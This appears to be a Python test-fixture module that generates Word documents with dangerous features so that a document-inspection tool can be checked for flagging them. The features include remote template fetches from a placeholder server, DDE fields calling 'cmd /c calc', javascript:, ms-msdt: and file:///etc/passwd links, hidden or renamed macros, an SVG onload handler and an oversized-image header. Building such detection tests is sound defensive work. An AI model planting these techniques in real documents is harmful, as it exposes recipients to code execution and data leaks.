"""Group D: what would run, fetch or call home. Everything is named; nothing is opened, fetched or decoded."""

from __future__ import annotations

import struct
import zlib

from formats.word.make import END, SEPARATE, begin, code, p, t, zipped
from hostile.rows import MAIN, PLAIN, TEXT, changed, document, linked, row, says

SETTINGS = "word/_rels/settings.xml.rels"


def outside(kind: str, address: str) -> bytes:
    """Return the plain file with a reference to an address outside."""
    return zipped(linked(kind, address, external=True))


def template(address: str) -> bytes:
    """Return the plain file with a template."""
    links = linked("attachedTemplate", address, external=True)["word/_rels/document.xml.rels"]
    return zipped({**PLAIN, "word/settings.xml": b"<settings/>", SETTINGS: links})


for _address in (
    "http://192.0.2.1/t.dotm",
    "\\\\192.0.2.1\\share\\t.dotm",
    "file://192.0.2.1/share/t.dotm",
    "//192.0.2.1/t",
):
    row("D1", f"a template at {_address}", notice="template on a server", check=says(TEXT))(
        lambda address=_address: template(address)  # type: ignore[misc]
    )


@row("D1", "a template on the sender's own disk", notice="sender's computer", check=says(TEXT))
def own_template() -> bytes:
    return template("file:///C:\\Users\\someone\\Normal.dotm")


for _kind, _words in (
    ("image", "a picture that lies outside"),
    ("oleObject", "outside the file (oleObject)"),
    ("frame", "outside the file (frame)"),
    ("subDocument", "text that lies outside"),
    ("aFChunk", "text that lies outside"),
    ("mailMergeSource", "outside the file (mailMergeSource)"),
    ("footnotes", "text that lies outside"),
):
    row("D2", f"{_kind} on the net", notice=_words, check=says(TEXT))(
        lambda kind=_kind: outside(kind, "http://192.0.2.1/x")  # type: ignore[misc]
    )


@row("D2", "a picture whose address stands in the text", notice="a picture that lies outside", check=says(TEXT))
def picture_in_text() -> bytes:
    return document(
        p(t(TEXT), '<w:r><w:pict><v:shape><v:imagedata src="http://192.0.2.1/x.png"/></v:shape></w:pict></w:r>')
    )


@row("D2", "a text in another format within the file", notice="was not opened")
def chunk() -> bytes:
    parts = linked("aFChunk", "a.htm", added={"word/a.htm": b"<html><body>We agree.</body></html>"})
    parts[MAIN] = parts[MAIN].replace(b"</w:body>", b'<w:altChunk r:id="x1"/></w:body>')
    return zipped(parts)


for _code in (
    "DDE cmd /c calc",
    "DDEAUTO c:\\\\x",
    'INCLUDETEXT "\\\\\\\\192.0.2.1\\\\x"',
    "INCLUDEPICTURE http://192.0.2.1/x",
    "LINK Excel.Sheet x",
    "IMPORT x",
    "DATABASE \\\\d x",
    "include x",
):
    row("D3", f"the field {_code}", notice=f"({_code.split()[0].upper()})")(
        lambda text=_code: document(p(begin(code(f" {text} ")), SEPARATE, t(TEXT), END))  # type: ignore[misc]
    )


@row(
    "D3",
    "a field whose code is split over runs",
    notice="(DDEAUTO)",
    check=lambda r: r.paragraphs[0].segments != (),
)
def split_field() -> bytes:
    return document(p(begin("".join(code(c) for c in " DDEAUTO c:\\x")), SEPARATE, t(TEXT), END))


@row("D3", "a field that another field completes", notice="(DDE)")
def nested_field() -> bytes:
    inner = begin(code(" QUOTE 1 ")) + SEPARATE + t("1") + END
    return document(p(begin(code(" D") + code("DE ") + inner + code(" cmd ")), SEPARATE, t(TEXT), END))


@row("D3", "a field that never ends", notice="(DDEAUTO)")
def endless_field() -> bytes:
    return document(p(begin(code(" DDEAUTO cmd "))))


@row("D3", "a simple field", notice="(INCLUDETEXT)")
def simple_field() -> bytes:
    return document(p(f'<w:fldSimple w:instr=" INCLUDETEXT x ">{t(TEXT)}</w:fldSimple>'))


@row("D3", "a link that is a field", notice="neither a web page nor a mail address", check=says(TEXT))
def field_link() -> bytes:
    return document(p(begin(code(' HYPERLINK "javascript:x()" ')), SEPARATE, t(TEXT), END))


@row("D4", "an embedded object", notice="an embedded object", check=says(TEXT))
def embedded() -> bytes:
    return zipped(linked("oleObject", "embeddings/o.bin", added={"word/embeddings/o.bin": b"\xd0\xcf\x11\xe0"}))


@row("D4", "an ActiveX control", notice="ActiveX", check=says(TEXT))
def activex() -> bytes:
    return zipped(linked("control", "activeX/a.xml", added={"word/activeX/a.xml": b"<ocx/>"}))


@row("D4", "buttons for Word's menus", notice="buttons for Word", check=says(TEXT))
def custom_ui() -> bytes:
    link = (
        b'<Relationship Id="ui" Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"'
        b' Target="customUI/customUI.xml"/></Relationships>'
    )
    links = PLAIN["_rels/.rels"].replace(b"</Relationships>", link)
    return zipped({**PLAIN, "_rels/.rels": links, "customUI/customUI.xml": b'<customUI onLoad="x"/>'})


@row("D4", "macros in a file that says it has none", refused="macros")
def hidden_macros() -> bytes:
    return changed("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")


@row("D4", "macros under another name", refused="macros")
def renamed_macros() -> bytes:
    return zipped(linked("vbaProject", "theme.bin", added={"word/theme.bin": b"\xd0\xcf\x11\xe0"}))


for _address in ("javascript:alert(1)", "file:///etc/passwd", "ms-msdt:/id", "\\\\192.0.2.1\\share", "vbscript:x"):
    row("D5", f"a link to {_address}", notice="neither a web page nor a mail address", check=says(TEXT))(
        lambda address=_address: outside("hyperlink", address)  # type: ignore[misc]
    )


@row("D5", "links to the web and to an address are ordinary", check=lambda r: r.notices == ())
def ordinary_links() -> bytes:
    parts = linked("hyperlink", "https://example.org/", external=True)
    mail = b'<Relationship Id="x2" Type="a/hyperlink" Target="mailto:a@example.org" TargetMode="External"/>'
    links = parts["word/_rels/document.xml.rels"].replace(b"</Relationships>", mail + b"</Relationships>")
    return zipped({**parts, "word/_rels/document.xml.rels": links})


def png(width: int, height: int) -> bytes:
    """Return a picture that says it is very large."""
    head = b"IHDR" + struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


for _name, _content in (("a.png", png(50_000, 50_000)), ("a.svg", b"<svg onload='x()'/>"), ("a.emf", b"\1\0\0\0")):
    row("D6", f"a picture {_name} is not decoded", check=says(TEXT))(
        lambda name=_name, content=_content: zipped(  # type: ignore[misc]
            linked("image", f"media/{name}", added={f"word/media/{name}": content})
        )
    )


@row("D7", "an embedded font", notice="an embedded font", check=says(TEXT))
def font() -> bytes:
    links = linked("font", "fonts/font1.odttf")["word/_rels/document.xml.rels"]
    return zipped(
        {
            **PLAIN,
            "word/fontTable.xml": b"<fonts/>",
            "word/_rels/fontTable.xml.rels": links,
            "word/fonts/font1.odttf": b"\0" * 64,
        }
    )
